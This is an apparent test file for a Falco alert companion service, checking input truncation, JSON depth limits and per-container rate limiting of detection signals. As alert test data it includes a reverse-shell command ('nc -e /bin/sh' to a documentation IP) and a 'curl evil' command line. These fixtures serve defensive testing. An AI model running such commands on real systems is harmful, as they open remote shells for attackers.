/**
 * Input limits (src/limits.ts) at the edges and the per-container signal fair share in the engine.
 */
import { Readable, Writable } from 'node:stream';
import { pino } from 'pino';
import { afterEach, describe, expect, it } from 'vitest';
import { alertFromJson, createAlert, formatTimeNs, type Alert } from '../src/alert.js';
import { ManualClock } from '../src/clock.js';
import { configSchema } from '../src/config/schema.js';
import { loadConfig } from '../src/config/validate.js';
import { DetectionEngine } from '../src/detect/engine.js';
import { loadRulesFile } from '../src/detect/rules/load.js';
import type { Detector, Finding, Signal } from '../src/detect/types.js';
import { parse, stringify, type JsonObject } from '../src/json/lossless.js';
import { DEFAULT_INPUT_LIMITS, SignalFairShare, TRUNCATED_KEY, cutString, inputLimits, limitAlertJson, markTruncated, type InputLimits } from '../src/limits.js';
import { silentLogger } from '../src/logger.js';
import { Metrics } from '../src/metrics.js';
import { MemoryIntake } from '../src/pipeline/intake.js';
import { HttpServer } from '../src/server/http.js';
import { FileSource } from '../src/sources/file.js';
import { httpConfig, post } from './server/harness.js';
import { DETECTOR_SPECS, T0 } from './detect/helpers.js';
import { retain } from '../src/detect/detectors/kit.js';

const L: InputLimits = { maxFields: 3, maxKeyLength: 12, maxValueLength: 8, maxOutputLength: 12, maxTags: 2, maxJsonDepth: 4 };
const HEAD = '"rule":"r","priority":"Warning","time":"2024-01-01T00:00:00Z"';

function limited(text: string, l: InputLimits = L) {
  return limitAlertJson(parse(text), l);
}

describe('limitAlertJson', () => {
  it('leaves an alert within the limits untouched (the same object)', () => {
    const v = parse(`{${HEAD},"output":"short","tags":["a"],"output_fields":{"k":"v","n":1.50}}`);
    const r = limitAlertJson(v, L);
    expect(r).toEqual({ ok: true, value: v, cuts: [] });
    if (r.ok) expect(r.value).toBe(v);
  });

  it('cuts values, the output, tags and fields, keeps the first ones, drops over-long keys, and says what it cut', () => {
    const v = parse(`{${HEAD},"output":"0123456789abcdef","tags":["t1","t2","t3","a-very-long-tag"],"output_fields":{"proc.cmdline":"sh -c 'curl evil'","a":1,"key-much-too-long":"x","b":true,"c":null,"d":"dropped"},"uuid":"0123456789"}`);
    const before = stringify(v);
    const r = limitAlertJson(v, L);
    if (!r.ok) throw new Error('rejected');
    expect(stringify(v)).toBe(before); // the input is never changed
    const o = r.value as JsonObject;
    expect(o['output']).toBe('0123456789a…');
    expect(o['tags']).toEqual(['t1', 't2']);
    expect(stringify(o['output_fields'])).toBe('{"proc.cmdline":"sh -c \'…","a":1,"b":true}');
    expect(o['uuid']).toBe('0123456…');
    expect(r.cuts).toEqual([
      { limit: 'output_length', key: 'output', count: 4 },
      { limit: 'tags', key: 'tags', count: 2 },
      { limit: 'value_length', key: 'proc.cmdline', count: 9 },
      { limit: 'fields', key: 'output_fields', count: 2 },
      { limit: 'key_length', key: 'output_fields', count: 1 },
      { limit: 'value_length', key: 'uuid', count: 2 },
    ]);
    const a = markTruncated(alertFromJson(r.value, { kind: 'http', component: 't' }, 0), r.cuts);
    expect(a.companion[TRUNCATED_KEY]).toBe('output,tags+2,proc.cmdline,output_fields+2,output_fields:long_keys+1,uuid');
  });

  it('bounds a nested output_fields value by its JSON text (what the Alert keeps), and a number literal by its digits', () => {
    const r = limited(`{${HEAD},"output_fields":{"x":[1,2,3,4,5,6]}}`);
    expect(r.ok && stringify((r.value as JsonObject)['output_fields'])).toBe('{"x":"[1,2,3,…"}');
    const n = limited(`{${HEAD},"output_fields":{"n":12345678901234567890,"m":12345678}}`);
    expect(n.ok && stringify((n.value as JsonObject)['output_fields'])).toBe('{"n":"1234567…","m":12345678}');
  });

  it('rejects documents nested deeper than max_json_depth (a Falco alert is 2 deep)', () => {
    expect(limited(`{${HEAD},"output_fields":{"x":[[1]]}}`).ok).toBe(true);
    const r = limited(`{${HEAD},"output_fields":{"x":[[[1]]]}}`);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.reason).toMatch(/deeper than 4 levels \(limits\.max_json_depth\)/);
    expect(limitAlertJson(parse(`{${HEAD},"output_fields":{"a":"x"}}`), DEFAULT_INPUT_LIMITS).ok).toBe(true);
  });

  it('names an empty key as "" in companion.truncated (never an empty mark)', () => {
    const r = limited(`{${HEAD},"output_fields":{"":"0123456789"}}`);
    if (!r.ok) throw new Error('rejected');
    expect(markTruncated(alertFromJson(r.value, { kind: 'http', component: 't' }, 0), r.cuts).companion[TRUNCATED_KEY]).toBe('""');
  });

  it('never splits a surrogate pair, and keeps a __proto__ key a key', () => {
    expect(cutString('abcdefg😀xyz', 9)).toBe('abcdefg…');
    const r = limited(`{${HEAD},"output_fields":{"__proto__":"0123456789"}}`);
    if (!r.ok) throw new Error('rejected');
    const f = (r.value as JsonObject)['output_fields'] as JsonObject;
    expect(Object.getPrototypeOf(f)).toBe(Object.prototype);
    expect(Object.keys(f)).toEqual(['__proto__']);
  });

  it('reads its defaults and settings from the config section `limits`', () => {
    const c = loadConfig<{ limits: Parameters<typeof inputLimits>[0] }>(configSchema, { file: null, env: { FALCO_COMPANION_LIMITS_MAX_VALUE_LENGTH: '4096' } });
    expect(inputLimits(c.limits)).toEqual({ ...DEFAULT_INPUT_LIMITS, maxValueLength: 4096 });
    expect(() => loadConfig(configSchema, { file: 'x.yaml', text: 'limits: {max_json_depth: 1000}', env: {} })).toThrow(/x\.yaml:1:\d+: limits\.max_json_depth/);
  });
});

// ---------------------------------------------------------------------------------------------

function capture(): { logger: pino.Logger; lines: Record<string, unknown>[] } {
  const lines: Record<string, unknown>[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _e, cb) {
      for (const l of chunk.toString().split('\n').filter(Boolean)) lines.push(JSON.parse(l) as Record<string, unknown>);
      cb();
    },
  });
  return { logger: pino({ level: 'info' }, stream), lines };
}

async function metric(m: Metrics, re: RegExp): Promise<number> {
  const line = (await m.text()).split('\n').find((l) => re.test(l));
  return line ? Number(line.split(' ').pop()) : 0;
}

const stops: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const s of stops.splice(0)) await s();
});

describe('limits at the HTTP receiver', () => {
  it('forwards an alert with an inflated command line cut and marked, and rejects a deep one with 400 too_deep; both counted and logged', async () => {
    const metrics = new Metrics({ collectDefault: false });
    const intake = new MemoryIntake(10, metrics);
    const { logger, lines } = capture();
    const limits: InputLimits = { ...DEFAULT_INPUT_LIMITS, maxValueLength: 1024 };
    const server = new HttpServer({ config: httpConfig({ max_body_bytes: 1 << 20 }), intake, logger, metrics, limits });
    await server.start();
    stops.push(() => server.stop(Date.now() + 1000));
    const base = `http://127.0.0.1:${server.address().port}`;

    const padded = `bash -c 'nc -e /bin/sh 203.0.113.9 4444' ${'A'.repeat(200_000)}`;
    const ok = await post(base, `{${HEAD},"output":"shell","output_fields":{"proc.cmdline":${JSON.stringify(padded)},"proc.name":"bash"}}`);
    expect(ok.status).toBe(200);
    const got = await intake.take();
    expect(got?.outputFields?.['proc.cmdline']).toBe(cutString(padded, 1024));
    expect(got?.outputFields?.['proc.name']).toBe('bash');
    expect(got?.companion[TRUNCATED_KEY]).toBe('proc.cmdline');
    expect(await metric(metrics, /^falco_companion_input_limited_total\{component="source\/http",limit="value_length",action="truncated"\}/)).toBe(1);
    const line = lines.find((l) => l['msg'] === 'alert over an input limit: truncated and forwarded (companion.truncated)');
    expect(line).toMatchObject({ rule: 'r', truncated: 'proc.cmdline', limits: ['value_length'] });
    expect(JSON.stringify(line)).not.toContain('AAAA'); // the keys, never the values

    const deep = await post(base, `{${HEAD},"output_fields":{"x":${'['.repeat(40)}${']'.repeat(40)}}}`);
    expect(deep.status).toBe(400);
    expect(deep.json()).toMatchObject({ error: 'too_deep' });
    expect(await metric(metrics, /^falco_companion_input_limited_total\{component="source\/http",limit="json_depth",action="rejected"\}/)).toBe(1);
    expect(intake.depth).toBe(0);
  });
});

describe('limits at the JSON-lines input', () => {
  it('skips over-long lines with one rate-limited log line and counts each', async () => {
    const metrics = new Metrics({ collectDefault: false });
    const intake = new MemoryIntake(100, metrics);
    const { logger, lines } = capture();
    const alert = `{${HEAD},"output_fields":{"a":"b"}}`;
    const text = [...Array.from({ length: 20 }, () => 'x'.repeat(3000)), alert, ''].join('\n');
    const src = new FileSource({ path: '-', fromStart: true, follow: false, pollIntervalMs: 10, maxLineBytes: 1024, intake, logger, metrics, stdin: Readable.from([Buffer.from(text)]), now: () => 0 });
    await src.start();
    expect(await src.done()).toEqual({ lines: 21, alerts: 1, skipped: 20 });
    await src.stop(Date.now() + 1000);
    expect(lines.filter((l) => l['msg'] === 'input over a limit rejected')).toHaveLength(1);
    expect(await metric(metrics, /^falco_companion_input_limited_total\{component="source\/stdin",limit="line_length",action="rejected"\}/)).toBe(20);
    expect(await metric(metrics, /^falco_companion_discarded_total\{component="source\/stdin",reason="line_too_long"\}/)).toBe(20);
    expect(await metric(metrics, /^falco_companion_log_suppressed_total\{component="source\/stdin"\}/)).toBe(19);
  });
});

// ---------------------------------------------------------------------------------------------

const sig = (container: string | null, sec: number, kind: Signal['kind'] = 'connect', subtype: string | null = null) => ({ kind, subtype, containerId: container, timeNs: T0 + BigInt(Math.round(sec * 1e9)) });

describe('SignalFairShare', () => {
  it('lets each container send its burst, then its rate per second of event time, and the first signal of each kind per second', async () => {
    const metrics = new Metrics({ collectDefault: false });
    const fair = new SignalFairShare({ ratePerSecond: 2, burst: 5 }, metrics, silentLogger(), () => 0);
    const flood = Array.from({ length: 20 }, () => sig('a', 0));
    expect(fair.admit(flood)).toHaveLength(5 + 1); // the burst, then the first connect of this second
    expect(fair.admit([sig('a', 0, 'raw_socket'), sig('a', 0, 'escape', 'mount'), sig('a', 0, 'escape', 'mount')])).toHaveLength(2);
    expect(fair.admit([sig('b', 0), sig('b', 0)])).toHaveLength(2); // another container has its own bucket
    expect(fair.admit([sig('a', 1.5), sig('a', 1.5), sig('a', 1.5), sig('a', 1.5)])).toHaveLength(3 + 1); // 1.5 s × 2/s refilled
    expect(fair.admit([sig(null, 0), sig(null, 0)])).toHaveLength(2); // the host is one more bucket
    expect(await metric(metrics, /^falco_companion_signals_dropped_total\{kind="connect",reason="container_rate"\}/)).toBe(14 + 0 + 0);
    expect(await metric(metrics, /^falco_companion_signals_dropped_total\{kind="escape",reason="container_rate"\}/)).toBe(1);
  });

  it('keeps at most maxContainers buckets, evicting the least recently seen (counted)', async () => {
    const metrics = new Metrics({ collectDefault: false });
    const fair = new SignalFairShare({ ratePerSecond: 1, burst: 1, maxContainers: 3 }, metrics, silentLogger());
    for (const c of ['a', 'b', 'c', 'a', 'd', 'e']) fair.admit([sig(c, 0)]);
    expect(fair.size).toBe(3);
    expect(await metric(metrics, /^falco_companion_detector_evictions_total\{detector="engine\/fair_share"\}/)).toBe(2);
  });

  it('returns the same array when every signal passes and is off at rate 0', () => {
    const fair = new SignalFairShare({ ratePerSecond: 0, burst: 1 }, new Metrics({ collectDefault: false }), silentLogger());
    const xs = Array.from({ length: 100 }, () => sig('a', 0));
    expect(fair.admit(xs)).toBe(xs);
  });
});

/**
 * A detector with a small shared memory (an LRU over container + destination, as the beacon
 * detector's series): a finding when one key is seen twice 10 s apart.
 */
function twiceDetector(max: number): Detector<{ seen: Map<string, bigint>; evicted: number }> {
  return {
    id: 'twice',
    consumes: ['connect'],
    init: () => ({ seen: new Map(), evicted: 0 }),
    step(st, s) {
      const key = `${s.containerId}|${s.net.remoteIp}`;
      const first = st.seen.get(key);
      const findings: Finding[] = [];
      if (first !== undefined && s.timeNs - first >= 10_000_000_000n) {
        findings.push({ detector: 'twice', rule: 'Seen twice', priority: 'Warning', score: 0.6, message: 'seen twice', key, timeNs: s.timeNs, evidence: [s], fields: {}, mitre: ['T1071'] } as unknown as Finding);
      }
      st.seen.delete(key);
      st.seen.set(key, first ?? s.timeNs);
      while (st.seen.size > max) {
        st.seen.delete(st.seen.keys().next().value as string);
        st.evicted++;
      }
      return { state: st, findings };
    },
    evictions: (st) => st.evicted,
  };
}

function connect(container: string, sec: number, ip: string): Alert {
  return createAlert({
    time: formatTimeNs(T0 + BigInt(Math.round(sec * 1e9))),
    rule: 'Companion signal: outbound connection from container',
    priority: 'Notice',
    source: 'syscall',
    output: 'connect',
    tags: [],
    outputFields: { 'container.id': container, 'fd.name': `10.0.0.2:40000->${ip}:443`, 'fd.sip': ip, 'fd.sport': 443, 'evt.type': 'connect', 'proc.pid': 10, 'proc.name': 'curl' },
    origin: { kind: 'test', component: 'test' },
    receivedAtMs: 0,
  });
}

describe('fair share in the detection engine', () => {
  const rules = loadRulesFile(null, { detectors: DETECTOR_SPECS });
  const replay = (fairShare: { ratePerSecond: number; burst: number } | undefined) => {
    const metrics = new Metrics({ collectDefault: false });
    const engine = new DetectionEngine({ rules, detectors: [twiceDetector(500) as Detector<unknown>], logger: silentLogger(), metrics, clock: new ManualClock(0), ...(fairShare ? { fairShare } : {}) });
    const out: { forward: boolean; detections: readonly Alert[] }[] = [];
    out.push(engine.process(connect('victim000001', 0, '198.51.100.7')));
    // A noisy container connects to 5000 different addresses within the next 10 s.
    for (let i = 0; i < 5000; i++) out.push(engine.process(connect('noisy0000001', i / 500, `203.0.${Math.floor(i / 250)}.${i % 250}`)));
    out.push(engine.process(connect('victim000001', 10, '198.51.100.7')));
    return { out, metrics };
  };

  it('keeps a flooding container from evicting the others\' detector state; its signals are dropped and counted, its alerts still forwarded', async () => {
    const without = replay(undefined);
    expect(without.out.flatMap((r) => r.detections)).toHaveLength(0); // the victim's first connect was evicted by the flood

    const { out, metrics } = replay({ ratePerSecond: 20, burst: 100 });
    expect(out.flatMap((r) => r.detections).map((d) => d.rule)).toEqual(['Seen twice']);
    expect(out.every((r) => r.forward)).toBe(true);
    const dropped = await metric(metrics, /^falco_companion_signals_dropped_total\{kind="connect",reason="container_rate"\}/);
    expect(dropped).toBeGreaterThan(4500);
    expect(dropped).toBeLessThan(5000);
  });

  it('is on by default from the config (limits.container_signals_per_second)', () => {
    const c = loadConfig<{ limits: { container_signals_per_second: number; container_signal_burst: number } }>(configSchema, { file: null, env: {} });
    expect(c.limits).toMatchObject({ container_signals_per_second: 100, container_signal_burst: 1000 });
  });
});


describe('evidence kept per detection', () => {
  it('keeps evidence signals slim: no output or output_fields, a command line of at most 4 KiB', () => {
    const alert = connect('c00000000001', 0, '198.51.100.7');
    const long = 'x'.repeat(20_000);
    const sig = { kind: 'connect', subtype: null, timeNs: alert.timeNs, rule: alert.rule, containerId: 'c00000000001', alert, proc: { pid: 1, ppid: null, sid: null, apids: [], name: 'x', exepath: null, cmdline: long, ancestors: [] } } as unknown as Signal;
    const kept = retain(sig);
    expect(kept.proc.cmdline).toHaveLength(4096);
    expect(kept.alert.output).toBe('');
    expect(kept.alert.outputFields).toBeNull();
    expect(retain({ ...sig, proc: { ...sig.proc, cmdline: 'short' } }).proc.cmdline).toBe('short');
  });
});
